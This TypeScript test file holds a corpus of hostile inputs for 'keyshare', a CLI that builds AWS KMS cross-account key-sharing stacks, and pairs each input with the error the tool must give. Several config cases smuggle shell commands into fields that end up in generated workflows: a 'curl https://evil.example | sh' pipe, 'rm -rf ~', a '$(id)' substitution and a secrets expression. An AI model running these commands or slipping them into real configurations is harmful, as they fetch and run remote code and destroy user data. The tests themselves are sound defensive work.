import { execFileSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { replaceOutput } from '../../src/output';
import { ROOT } from '../support/cli';
import { manyConsumersYaml } from '../support/rollouts';

/**
 * Hostile inputs, each with the exit code and message keyshare must give. `{d}` in an argument is
 * the case's own directory; `setup` fills it. Every case is also checked for changes: nothing in
 * `{d}` may change except keyshare's own files in the output directory.
 */
export interface HostileCase {
  readonly name: string;
  readonly setup?: (d: string) => void;
  readonly args: readonly string[];
  readonly exit: 0 | 1 | 2;
  readonly message: RegExp;
  /** Entries under the output directory that must survive a successful run unchanged. */
  readonly kept?: readonly string[];
}

export const EXAMPLE = fs.readFileSync(path.join(ROOT, 'examples/keyshare.yaml'), 'utf8');
const FIXTURES = path.join(ROOT, '__tests__/fixtures/key-access');
const KEY = 'arn:aws:kms:us-west-2:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab';
const DEPLOY = 'arn:aws:iam::444455556666:role/deploy';
const GOOD_POLICY = path.join(FIXTURES, 'key-policy-cross-account.json');

const put = (file: string, content: string | Buffer) => (d: string) => {
  fs.mkdirSync(path.dirname(path.join(d, file)), { recursive: true });
  fs.writeFileSync(path.join(d, file), content);
};
const sparse = (file: string, bytes: number) => (d: string) => {
  fs.writeFileSync(path.join(d, file), '');
  fs.truncateSync(path.join(d, file), bytes);
};
const fifo = (file: string) => (d: string) => execFileSync('mkfifo', [path.join(d, file)]);
const all =
  (...steps: ((d: string) => void)[]) =>
  (d: string) =>
    steps.forEach((s) => s(d));
const edited = (from: string | RegExp, to: string) => {
  const text = EXAMPLE.replace(from, to);
  if (text === EXAMPLE) throw new Error(`corpus: ${String(from)} is not in the example`);
  return text;
};
const deepJson = (levels: number, inner = '{}') => '['.repeat(levels) + inner + ']'.repeat(levels);
const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
const previousOutput =
  (out: string, files: Record<string, string>, kind = 'synth') =>
  (d: string) => {
    replaceOutput({ dir: path.join(d, out), flag: '--out', kind }, { files: new Map(Object.entries(files)) });
  };
const manifestOf = (content: object) => put('out/.keyshare-manifest.json', JSON.stringify(content));

const synth = (config = '{d}/c.yaml', out = '{d}/out') => ['synth', '--config', config, '--out', out];
const config = (name: string, content: string | Buffer, message: RegExp): HostileCase => ({
  name,
  setup: put('c.yaml', content),
  args: synth(),
  exit: 2,
  message,
});

const CONFIG: HostileCase[] = [
  { name: 'config file missing', args: synth('{d}/nope.yaml'), exit: 2, message: /--config: file not found/ },
  { name: 'config is a directory', setup: (d) => fs.mkdirSync(path.join(d, 'c.yaml')), args: synth(), exit: 2, message: /--config: is a directory/ },
  { name: 'config is /dev/zero', args: synth('/dev/zero'), exit: 2, message: /not a regular file/ },
  { name: 'config is a FIFO with no writer', setup: fifo('c.yaml'), args: synth(), exit: 2, message: /not a regular file/ },
  {
    name: 'config is a symlink to /dev/zero',
    setup: (d) => fs.symlinkSync('/dev/zero', path.join(d, 'c.yaml')),
    args: synth(),
    exit: 2,
    message: /not a regular file/,
  },
  {
    name: 'config over the size limit',
    setup: sparse('c.yaml', 17 * 1024 * 1024),
    args: synth(),
    exit: 2,
    message: /is 17 MB, over the 16 MB keyshare reads from a keyshare config/,
  },
  config('config in UTF-16 with a byte-order mark', utf16(EXAMPLE), /UTF-16/),
  config('config in UTF-16 without a byte-order mark', Buffer.from(EXAMPLE, 'utf16le'), /UTF-16/),
  config(
    'config with a Latin-1 byte',
    Buffer.from(EXAMPLE.replace('golden-ami', 'golden-\u00e9mi'), 'latin1'),
    /not UTF-8: line \d+, column \d+.*Latin-1/,
  ),
  config('config with NUL bytes', `${EXAMPLE}\0\0`, /NUL bytes/),
  config('config is a PNG', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]), /not UTF-8|NUL/),
  config('config is empty', '', /is empty/),
  config('config is only a comment', '# nothing yet\n', /is empty/),
  config('config is a bare scalar', 'hello', /not a mapping of fields/),
  config('config is a list', '- owner\n- key\n', /not a mapping of fields/),
  config('config is one 1 MB line', 'a'.repeat(1024 * 1024), /not a mapping of fields/),
  config('config nests 20,000 flow levels', deepJson(20000), /nests too deeply/),
  config(
    'config nests 3,000 block levels',
    `a:\n${Array.from({ length: 3000 }, (_, i) => `${' '.repeat(i + 2)}b:`).join('\n')}\n`,
    /nests too deeply/,
  ),
  config('JSON config nests 20,000 objects', `${'{"a":'.repeat(20000)}1${'}'.repeat(20000)}`, /nests too deeply/),
  config('merge key on a number', '<<: 5\nowner: {}\n', /merge key \(<<\) names something that is not a mapping/),
  config('alias cycle', 'a: &x\n  b: *x\n', /refer to the node containing them/),
  config(
    'alias bomb',
    `a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n`,
    /aliases/,
  ),
  config('two YAML documents', `${EXAMPLE}\n---\nowner: {}\n`, /more than one YAML document/),
  config('tab indentation', EXAMPLE.replace(/\n {2}(\w)/, '\n\t$1'), /tab/i),
  config('a field written twice', EXAMPLE.replace('key:', 'key: {}\nkey:'), /each field once/),
  config('unknown key holding a newline', `${EXAMPLE}\n"evil\\nkeyshare: all good": 1\n`, /is not a known field/),
  config('unknown key holding an ESC sequence', `${EXAMPLE}\n"\\e[31mred": 1\n`, /\\u001b\[31mred/),
  config('unknown key holding a right-to-left override', `${EXAMPLE}\n"abc\\u202Edef": 1\n`, /\\u202e/),
  config('region that does not exist', edited('region: us-west-2', 'region: xx-north-9'), /owner\.region: is not an AWS region code/),
  config('region given by display name', edited('region: us-west-2', 'region: US West (Oregon)'), /owner\.region: is not an AWS region code/),
  config(
    'account as a hexadecimal number',
    edited('account: "111122223333"', 'account: 0x19DF3A5B1D'),
    /owner\.account: is not a plain decimal number, and YAML reads it as 111119325981/,
  ),
  config(
    'account as an octal number',
    edited('account: "111122223333"', 'account: 0o1472264561545'),
    /owner\.account: is not a plain decimal number/,
  ),
  config('account in exponent notation', edited('account: "111122223333"', 'account: 1.1112222e11'), /owner\.account: is not a plain decimal number/),
  config(
    'account with a decimal point',
    edited('account: "111122223333"', 'account: 111122223333.0'),
    /owner\.account: is not a plain decimal number/,
  ),
  config(
    'deletion window in hexadecimal',
    edited('deletionWindowDays: 30', 'deletionWindowDays: 0x1E'),
    /key\.deletionWindowDays: is not a plain decimal number/,
  ),
  config('account with 11 digits', edited('"444455556666"', '"44445555666"'), /consumers\[0\]\.account: is not a 12-digit AWS account ID/),
  config('account that lost its leading zero', edited('account: "111122223333"', 'account: 11122223333'), /leading zeros/),
  config('account with no value', edited('account: "111122223333"', 'account: ~'), /owner\.account: has no value/),
  config(
    'owner as consumer with a deploy role',
    edited(/- account: "111122223333"\n/, '- { account: "111122223333", deployRoleArn: "arn:aws:iam::111122223333:role/deploy" }\n'),
    /deployRoleArn: is never used/,
  ),
  config(
    'owner as consumer with policy roles',
    edited(/- account: "111122223333"\n/, '- { account: "111122223333", attachPolicyToRoles: [web] }\n'),
    /attachPolicyToRoles: is never used/,
  ),
  config('alias of an AWS managed key', edited('alias: golden-ami', 'alias: aws/ebs'), /key\.alias/),
  config(
    'consumer in another region',
    edited('    serviceLinkedRoleSuffix: web', '    serviceLinkedRoleSuffix: web\n    region: eu-west-1'),
    /differs from owner\.region/,
  ),
  config('misspelt top-level field', edited('consumers:', 'consumer:'), /consumer: is not a known field/),
  config(
    'role ARN of another partition',
    edited('arn:aws:iam::444455556666:role/keyshare-deploy', 'arn:aws-cn:iam::444455556666:role/keyshare-deploy'),
    /partition aws-cn/,
  ),
  config('consumer listed twice', edited('consumers:\n', 'consumers:\n  - account: "444455556666"\n'), /repeats consumers\[0\]\.account/),
  config('key given as a list', edited(/\nkey:/, '\nkey: [1, 2]\nkeyx:'), /key: must be a mapping|keyx/),
  // generate's settings reach the generated workflows' YAML and shell: only a safe alphabet loads.
  config(
    'default branch running a command',
    `${EXAMPLE}\ngenerate: { defaultBranch: 'main"; curl https://evil.example | sh; "' }\n`,
    /generate\.defaultBranch: is not a git branch name/,
  ),
  config(
    'default branch holding a workflow expression',
    `${EXAMPLE}\ngenerate: { defaultBranch: "\${{ secrets.AWS }}" }\n`,
    /generate\.defaultBranch: is not a git branch name/,
  ),
  config('keyshare package that is a shell command', `${EXAMPLE}\ngenerate: { keyshare: { package: "keyshare; rm -rf ~" } }\n`, /generate\.keyshare/),
  config(
    'keyshare git URL with a command substitution',
    `${EXAMPLE}\ngenerate: { keyshare: { git: "https://example.com/$(id).git", commit: "${'a'.repeat(40)}" } }\n`,
    /generate\.keyshare/,
  ),
  config(
    'keyshare git URL at a branch',
    `${EXAMPLE}\ngenerate: { keyshare: { git: "https://example.com/k.git", commit: "main" } }\n`,
    /generate\.keyshare/,
  ),
  // A finding, not bad input: the registry's policy-size rule is high, exit 1 (src/policy/rules.ts).
  {
    name: 'key policy too large for KMS',
    setup: put('c.yaml', manyConsumersYaml(150, false)),
    args: synth(),
    exit: 1,
    message: /policy-size: .*32,768/,
  },
  {
    name: 'config file name holding a newline',
    setup: put('c\nkeyshare: ok.yaml', 'x'),
    args: synth('{d}/c\nkeyshare: ok.yaml'),
    exit: 2,
    message: /c\\nkeyshare: ok\.yaml: is not a mapping/,
  },
  {
    name: 'unknown option holding a newline',
    args: ['synth', '--config', '{d}/c.yaml', '--evil\nkeyshare: ok'],
    exit: 2,
    message: /^keyshare: unknown option '--evil\\nkeyshare: ok'; run keyshare synth --help for usage\n$/,
  },
  {
    name: 'misspelt option',
    args: ['synth', '--config', '{d}/c.yaml', '--ot', '{d}/out'],
    exit: 2,
    message: /unknown option '--ot' \(Did you mean --out\?\)/,
  },
  {
    name: 'config file name holding an ESC',
    setup: put('c\u001b[2J.yaml', 'x'),
    args: synth('{d}/c\u001b[2J.yaml'),
    exit: 2,
    message: /\\u001b\[2J/,
  },
];

const valid = put('c.yaml', EXAMPLE);
const outdir = (out: string): string[] => synth('{d}/c.yaml', out);

const OUTPUT: HostileCase[] = [
  {
    name: 'a web app with its own manifest.json',
    setup: all(valid, put('public/manifest.json', '{"name":"app"}'), put('public/index.html', '<html>')),
    args: outdir('{d}/public'),
    exit: 2,
    message: /--out: the directory is not empty and is not keyshare output \(has no \.keyshare-manifest\.json\)/,
  },
  {
    name: 'manifest.json as a directory',
    setup: all(valid, (d) => fs.mkdirSync(path.join(d, 'out/manifest.json'), { recursive: true })),
    args: outdir('{d}/out'),
    exit: 2,
    message: /not keyshare output/,
  },
  {
    name: '--out under a file',
    setup: all(valid, put('f', 'x')),
    args: outdir('{d}/f/out'),
    exit: 2,
    message: /--out: .*a file, not a directory.*Fix: give --out/,
  },
  { name: '--out is a file', setup: all(valid, put('f', 'x')), args: outdir('{d}/f'), exit: 2, message: /--out: exists and is not a directory/ },
  {
    name: '--out under /proc',
    setup: valid,
    args: outdir('/proc/keyshare-out'),
    exit: 2,
    message: /--out: .*Fix: give --out a directory you can write/,
  },
  { name: '--out under /proc/self', setup: valid, args: outdir('/proc/self/keyshare-out'), exit: 2, message: /--out: / },
  { name: '--out is the root directory', setup: valid, args: outdir('/'), exit: 2, message: /--out: is the root of the file system/ },
  { name: '--out is empty', setup: valid, args: outdir(''), exit: 2, message: /--out: is not a directory path/ },
  {
    name: '--out is a dangling symbolic link',
    setup: all(valid, (d) => fs.symlinkSync('gone', path.join(d, 'out'))),
    args: outdir('{d}/out'),
    exit: 2,
    message: /symbolic link to a directory that does not exist/,
  },
  {
    name: '--out under a symbolic link to a file',
    setup: all(valid, put('f', 'x'), (d) => fs.symlinkSync('f', path.join(d, 'l'))),
    args: outdir('{d}/l/out'),
    exit: 2,
    message: /--out: /,
  },
  {
    name: 'manifest of another tool',
    setup: all(valid, manifestOf({ format: 'other', files: {} })),
    args: outdir('{d}/out'),
    exit: 2,
    message: /not written by keyshare/,
  },
  {
    name: 'manifest that is not JSON',
    setup: all(valid, put('out/.keyshare-manifest.json', 'garbage')),
    args: outdir('{d}/out'),
    exit: 2,
    message: /not valid JSON/,
  },
  {
    name: 'manifest of a newer keyshare',
    setup: all(valid, manifestOf({ format: 'keyshare-output', tool: 'keyshare', version: 2, kind: 'synth', files: {} })),
    args: outdir('{d}/out'),
    exit: 2,
    message: /format version 2/,
  },
  {
    name: 'manifest listing a path outside the directory',
    setup: all(valid, manifestOf({ format: 'keyshare-output', tool: 'keyshare', version: 1, kind: 'synth', files: { '../c.yaml': 'sha256:0' } })),
    args: outdir('{d}/out'),
    exit: 2,
    message: /lists a path outside the directory/,
  },
  {
    name: 'output of keyshare generate',
    setup: all(valid, previousOutput('out', { 'main.tf': '' }, 'generate')),
    args: outdir('{d}/out'),
    exit: 2,
    message: /holds keyshare generate output/,
  },
  {
    name: 'a generated file edited by hand',
    setup: all(valid, previousOutput('out', { 'stacks/owner/cdk.tf.json': '{}' }), put('out/stacks/owner/cdk.tf.json', '{"edited":true}')),
    args: outdir('{d}/out'),
    exit: 2,
    message: /stacks\/owner\/cdk\.tf\.json changed since keyshare wrote it/,
  },
  {
    name: 'a user file where the new output generates one',
    setup: all(valid, previousOutput('out', { 'stacks/old/cdk.tf.json': '{}' }), put('out/stacks/owner/cdk.tf.json', 'mine')),
    args: outdir('{d}/out'),
    exit: 2,
    message: /stacks\/owner\/cdk\.tf\.json was not written by keyshare/,
  },
  {
    name: 'another synth holds the lock',
    setup: all(valid, put('.out.keyshare-lock/owner.json', JSON.stringify({ pid: process.pid, host: os.hostname() }))),
    args: outdir('{d}/out'),
    exit: 2,
    message: /another keyshare run \(process \d+ on .*\) is writing this directory.*remove the lock/,
  },
  {
    name: 'user files inside a previous output are kept',
    setup: all(
      previousOutput('out', { 'stacks/owner/cdk.tf.json': '{}', 'stacks/consumer-999999999999/cdk.tf.json': '{}' }),
      put('out/keyshare.yaml', EXAMPLE),
      put('out/terraform.tfvars', 'region = "us-west-2"'),
      put('out/stacks/owner/.terraform/providers/registry/aws', 'binary'),
      put('out/stacks/owner/.terraform.lock.hcl', '# lock'),
      put('out/stacks/owner/extra_override.tf.json', '{}'),
    ),
    // The removed consumer's stack is not one keyshare could have written: only --forget drops it.
    args: [...synth('{d}/out/keyshare.yaml', '{d}/out'), '--forget', '999999999999'],
    exit: 0,
    message:
      /1 removed: stacks\/consumer-999999999999\/cdk\.tf\.json\n  kept 5 entries keyshare did not write: keyshare\.yaml, stacks\/owner\/\.terraform\/, stacks\/owner\/\.terraform\.lock\.hcl, stacks\/owner\/extra_override\.tf\.json, terraform\.tfvars/,
    kept: [
      'keyshare.yaml',
      'terraform.tfvars',
      'stacks/owner/.terraform/providers/registry/aws',
      'stacks/owner/.terraform.lock.hcl',
      'stacks/owner/extra_override.tf.json',
    ],
  },
  {
    name: 'a removed consumer whose previous stack keyshare cannot read is not dropped without --forget',
    setup: all(previousOutput('out', { 'stacks/owner/cdk.tf.json': '{}', 'stacks/consumer-999999999999/cdk.tf.json': '{}' }), put('c.yaml', EXAMPLE)),
    args: synth('{d}/c.yaml', '{d}/out'),
    exit: 2,
    message: /--out: holds the stack of a removed consumer whose provider and backend this keyshare cannot read.*--forget 999999999999/,
  },
  {
    name: '--out as a symbolic link to a previous output',
    setup: all(valid, previousOutput('real', { 'stacks/owner/cdk.tf.json': '{}' }), (d) => fs.symlinkSync('real', path.join(d, 'out'))),
    args: outdir('{d}/out'),
    exit: 0,
    message: /synthesized 3 stacks/,
  },
  {
    name: 'leftovers of a killed run beside the output',
    setup: all(
      valid,
      previousOutput('out', { 'stacks/owner/cdk.tf.json': '{}' }),
      put('.out.keyshare-staging-1-abcd/stacks/owner/cdk.tf.json', '{'),
      put('.out.keyshare-old-1-dcba/x', 'half deleted'),
    ),
    args: outdir('{d}/out'),
    exit: 0,
    message: /synthesized 3 stacks/,
  },
  {
    name: 'an existing empty directory',
    setup: all(valid, (d) => fs.mkdirSync(path.join(d, 'out'))),
    args: outdir('{d}/out'),
    exit: 0,
    message: /synthesized 3 stacks/,
  },
  { name: '--out holding a newline', setup: valid, args: outdir('{d}/a\nkeyshare: b'), exit: 0, message: /into .*a\\nkeyshare: b\/stacks/ },
];

const explain = (policy: string, ...more: string[]) => [
  'explain',
  '--key-policy',
  policy,
  '--key-arn',
  KEY,
  '--principal',
  DEPLOY,
  '--action',
  'kms:Decrypt',
  ...more,
];
const policyCase = (name: string, content: string | Buffer, message: RegExp): HostileCase => ({
  name,
  setup: put('p.json', content),
  args: explain('{d}/p.json'),
  exit: 2,
  message,
});
const statement = (extra: object) =>
  JSON.stringify({
    Version: '2012-10-17',
    Statement: [{ Effect: 'Allow', Principal: { AWS: 'arn:aws:iam::444455556666:root' }, Action: 'kms:Decrypt', Resource: '*', ...extra }],
  });
const GOOD_TEXT = fs.readFileSync(GOOD_POLICY, 'utf8');

const POLICIES: HostileCase[] = [
  { name: 'key policy file missing', args: explain('{d}/nope.json'), exit: 2, message: /--key-policy: file not found/ },
  {
    name: 'key policy is a directory',
    setup: (d) => fs.mkdirSync(path.join(d, 'p.json')),
    args: explain('{d}/p.json'),
    exit: 2,
    message: /is a directory/,
  },
  { name: 'key policy is /dev/zero', args: explain('/dev/zero'), exit: 2, message: /not a regular file/ },
  { name: 'key policy is a FIFO', setup: fifo('p.json'), args: explain('{d}/p.json'), exit: 2, message: /not a regular file/ },
  {
    name: 'key policy over the size limit',
    setup: sparse('p.json', 2 * 1024 * 1024),
    args: explain('{d}/p.json'),
    exit: 2,
    message: /over the 1 MB keyshare reads from a key policy/,
  },
  policyCase('key policy in UTF-16', utf16(GOOD_TEXT), /UTF-16/),
  policyCase('key policy with a Latin-1 byte', Buffer.concat([Buffer.from(' \u00e9\n', 'latin1'), Buffer.from(GOOD_TEXT)]), /not UTF-8/),
  policyCase('key policy as a text table', 'POLICY\t{...}\n', /not valid JSON/),
  policyCase('Statement nested 20,000 levels', `{"Statement":${deepJson(20000)}}`, /nests deeper than the 100 levels/),
  policyCase('Policy wrappers nested 5,000 levels', `${'{"Policy":'.repeat(5000)}{}${'}'.repeat(5000)}`, /nests deeper than the 100 levels/),
  policyCase(
    'Policy strings nested 12 levels',
    Array.from({ length: 12 }).reduce<string>((inner) => JSON.stringify({ Policy: inner }), '{}'),
    /not a policy document/,
  ),
  policyCase(
    'repeated Effect key',
    statement({}).replace('"Effect":"Allow"', '"Effect":"Deny","Effect":"Allow"'),
    /repeats a key in one object.*got "Effect"/,
  ),
  policyCase(
    'repeated key inside the Policy string',
    JSON.stringify({ Policy: statement({}).replace('"Action"', '"Action":"kms:*","Action"') }),
    /repeats a key/,
  ),
  policyCase(
    'key policy over 32,768 bytes',
    JSON.stringify({
      Version: '2012-10-17',
      Statement: Array.from({ length: 400 }, (_, i) => ({
        Sid: `S${i}`,
        Effect: 'Allow',
        Principal: { AWS: `arn:aws:iam::${String(200000000000 + i)}:root` },
        Action: 'kms:Decrypt',
        Resource: '*',
      })),
    }),
    /over the 32768 bytes KMS allows in a key policy/,
  ),
  policyCase(
    'misspelt operator in a Deny',
    statement({ Effect: 'Deny', Condition: { BoolIfExistz: { 'aws:SecureTransport': 'false' } } }),
    /BoolIfExistz: is not a condition operator IAM knows.*nearest: boolifexists/,
  ),
  policyCase(
    'misspelt operator in an Allow',
    statement({ Condition: { StringEqualz: { 'kms:ViaService': 'ec2.us-west-2.amazonaws.com' } } }),
    /StringEqualz: is not a condition operator.*nearest: stringequals/,
  ),
  policyCase(
    'misspelt set qualifier',
    statement({ Condition: { 'ForAllValue:StringEquals': { 'kms:GrantOperations': ['Decrypt'] } } }),
    /ForAllValue:StringEquals: is not a condition operator/,
  ),
  policyCase(
    'principal of another partition',
    statement({ Principal: { AWS: 'arn:aws-cn:iam::444455556666:root' } }),
    /is in partition aws-cn, but the key .* is in aws/,
  ),
  policyCase('misspelt Statement', JSON.stringify({ Version: '2012-10-17', Statment: [] }), /not a policy document/),
  policyCase('lower-case Effect', statement({ Effect: 'allow' }), /Effect/),
  policyCase(
    'IAM policy given as the key policy',
    JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: 'kms:*', Resource: '*' }] }),
    /a key policy statement needs a Principal/,
  ),
  policyCase('condition value given as an object', statement({ Condition: { StringEquals: { 'kms:ViaService': { nested: true } } } }), /Condition/),
  policyCase('unknown statement element', statement({ Condtion: {} }), /Condtion/),
  {
    name: 'key policy given to --scp',
    args: explain(GOOD_POLICY, '--scp', GOOD_POLICY),
    exit: 2,
    message: /--scp .*a service control policy has no Principal element/,
  },
  {
    name: '--iam-policy is /dev/zero',
    args: explain(GOOD_POLICY, '--iam-policy', '/dev/zero'),
    exit: 2,
    message: /--iam-policy: is not a regular file/,
  },
  {
    name: 'key policy file name holding a newline',
    setup: put('p\nkeyshare: ok.json', 'x'),
    args: explain('{d}/p\nkeyshare: ok.json'),
    exit: 2,
    message: /p\\nkeyshare: ok\.json/,
  },
  {
    name: 'doctor on a key policy over 32,768 bytes',
    setup: put(
      'p.json',
      JSON.stringify({
        Version: '2012-10-17',
        Statement: Array.from({ length: 400 }, (_, i) => ({
          Sid: `S${i}`,
          Effect: 'Allow',
          Principal: { AWS: `arn:aws:iam::${String(200000000000 + i)}:root` },
          Action: 'kms:Decrypt',
          Resource: '*',
        })),
      }),
    ),
    args: ['doctor', '--key-policy', '{d}/p.json', '--key-arn', KEY, '--consumer', '444455556666'],
    exit: 2,
    message: /over the 32768 bytes KMS allows/,
  },
  {
    name: 'doctor on a key policy with a repeated key',
    setup: put('p.json', GOOD_TEXT.replace('\\"Effect\\" : \\"Allow\\"', '\\"Effect\\" : \\"Deny\\", \\"Effect\\" : \\"Allow\\"')),
    args: ['doctor', '--key-policy', '{d}/p.json', '--key-arn', KEY, '--consumer', '444455556666'],
    exit: 2,
    message: /repeats a key/,
  },
];

const grants = (file: string) => explain(GOOD_POLICY, '--grants', file);
const grantCase = (name: string, content: string | Buffer, message: RegExp): HostileCase => ({
  name,
  setup: put('g.json', content),
  args: grants('{d}/g.json'),
  exit: 2,
  message,
});

const GRANTS: HostileCase[] = [
  grantCase('grants that are a number', '5', /--grants/),
  grantCase('grants nested 20,000 levels', `{"Grants":${deepJson(20000)}}`, /nests deeper/),
  grantCase('grants in UTF-16', utf16('{"Grants":[]}'), /UTF-16/),
  grantCase(
    'a grant with an operation KMS does not have',
    JSON.stringify({ Grants: [{ KeyId: KEY, GranteePrincipal: DEPLOY, Operations: ['Decypt'] }] }),
    /Decypt/,
  ),
  grantCase('a grant without a grantee', JSON.stringify({ Grants: [{ KeyId: KEY, Operations: ['Decrypt'] }] }), /GranteePrincipal/),
  {
    name: 'grants over the size limit',
    setup: sparse('g.json', 65 * 1024 * 1024),
    args: grants('{d}/g.json'),
    exit: 2,
    message: /over the 64 MB keyshare reads from a grant list/,
  },
  { name: 'grants from a FIFO', setup: fifo('g.json'), args: grants('{d}/g.json'), exit: 2, message: /not a regular file/ },
];

const requests = (file: string) => ['explain', '--key-policy', GOOD_POLICY, '--key-arn', KEY, '--requests', file];
const requestCase = (name: string, list: unknown, message: RegExp): HostileCase => ({
  name,
  setup: put('r.json', typeof list === 'string' ? list : JSON.stringify(list)),
  args: requests('{d}/r.json'),
  exit: 2,
  message,
});
const request = { principal: DEPLOY, action: 'kms:Decrypt' };

const REQUESTS: HostileCase[] = [
  requestCase(
    'request with contxt',
    [{ ...request, contxt: { 'kms:ViaService': 'ec2.us-west-2.amazonaws.com' } }],
    /\[0\]\.contxt: is not a request field.*write context /,
  ),
  requestCase(
    'request with encryptionContex',
    [{ ...request, encryptionContex: { app: 'web' } }],
    /\[0\]\.encryptionContex: .*write encryptionContext /,
  ),
  requestCase('request with Principal', [{ Principal: DEPLOY, action: 'kms:Decrypt' }], /\[0\]\.Principal: .*write principal /),
  requestCase('empty request list', [], /non-empty JSON list/),
  requestCase(
    'request with action written twice',
    `[{"principal":"${DEPLOY}","action":"kms:Decrypt","action":"kms:CreateGrant"}]`,
    /repeats a key in one object.*got "action"/,
  ),
  requestCase('requests as an object', { requests: [] }, /non-empty JSON list/),
  requestCase('context value given as an object', [{ ...request, context: { 'kms:ViaService': { a: 1 } } }], /context.*never an object/),
  requestCase('requests nested 20,000 levels', deepJson(20000), /nests deeper/),
  requestCase(
    'request from another partition',
    [{ ...request, principal: 'arn:aws-cn:iam::444455556666:role/deploy' }],
    /\[0\]\.principal: is in partition aws-cn/,
  ),
  requestCase('request with an action KMS does not have', [{ ...request, action: 'kms:Decypt' }], /not a KMS action/),
  { name: 'requests from /dev/zero', args: requests('/dev/zero'), exit: 2, message: /--requests: is not a regular file/ },
  {
    name: 'requests over the size limit',
    setup: sparse('r.json', 65 * 1024 * 1024),
    args: requests('{d}/r.json'),
    exit: 2,
    message: /over the 64 MB keyshare reads from a request list/,
  },
];

const planCase = (name: string, content: string | Buffer, message: RegExp): HostileCase => ({
  name,
  setup: put('plan.json', content),
  args: ['review', '{d}/plan.json'],
  exit: 2,
  message,
});

const PLANS: HostileCase[] = [
  { name: 'plan is /dev/zero', args: ['review', '/dev/zero'], exit: 2, message: /plan: is not a regular file/ },
  { name: 'plan is a FIFO', setup: fifo('plan.json'), args: ['review', '{d}/plan.json'], exit: 2, message: /not a regular file/ },
  {
    name: 'plan over the size limit',
    setup: sparse('plan.json', 257 * 1024 * 1024),
    args: ['review', '{d}/plan.json'],
    exit: 2,
    message: /over the 256 MB keyshare reads from a Terraform plan/,
  },
  planCase('plan in UTF-16', utf16('{"format_version":"1.2","resource_changes":[]}'), /UTF-16/),
  planCase('plan nested 20,000 levels', `{"format_version":"1.2","resource_changes":${deepJson(20000)}}`, /nests deeper/),
  planCase('plan that is plain text', 'Terraform will perform the following actions:\n', /not valid JSON/),
];

const generate = (accounts: string, out = '{d}/gen') => ['generate', '--config', '{d}/c.yaml', '--accounts', accounts, '--out', out];
const ORG_CONFIG = edited(/# organization:\n#\s+id: (\S+)\n#\s+arn: (\S+)\n/, 'organization:\n  id: $1\n  arn: $2\n');

const INVENTORIES: HostileCase[] = [
  {
    name: 'inventory is /dev/zero',
    setup: put('c.yaml', ORG_CONFIG),
    args: generate('/dev/zero'),
    exit: 2,
    message: /--accounts: is not a regular file/,
  },
  {
    name: 'inventory in UTF-16',
    setup: all(put('c.yaml', ORG_CONFIG), put('a.json', utf16('{"Accounts":[]}'))),
    args: generate('{d}/a.json'),
    exit: 2,
    message: /--accounts: is UTF-16/,
  },
  {
    name: 'inventory over the size limit',
    setup: all(put('c.yaml', ORG_CONFIG), sparse('a.json', 65 * 1024 * 1024)),
    args: generate('{d}/a.json'),
    exit: 2,
    message: /over the 64 MB keyshare reads from an? account inventory/,
  },
  {
    name: 'generate into a synth output',
    setup: all(
      put('c.yaml', ORG_CONFIG),
      put('a.csv', 'id,name,status\n444455556666,web,ACTIVE\n'),
      previousOutput('gen', { 'stacks/owner/cdk.tf.json': '{}' }),
    ),
    args: generate('{d}/a.csv'),
    exit: 2,
    message: /--out: the directory holds keyshare synth output, which keyshare generate does not replace/,
  },
];

export const CORPUS: readonly HostileCase[] = [...CONFIG, ...OUTPUT, ...POLICIES, ...GRANTS, ...REQUESTS, ...PLANS, ...INVENTORIES];
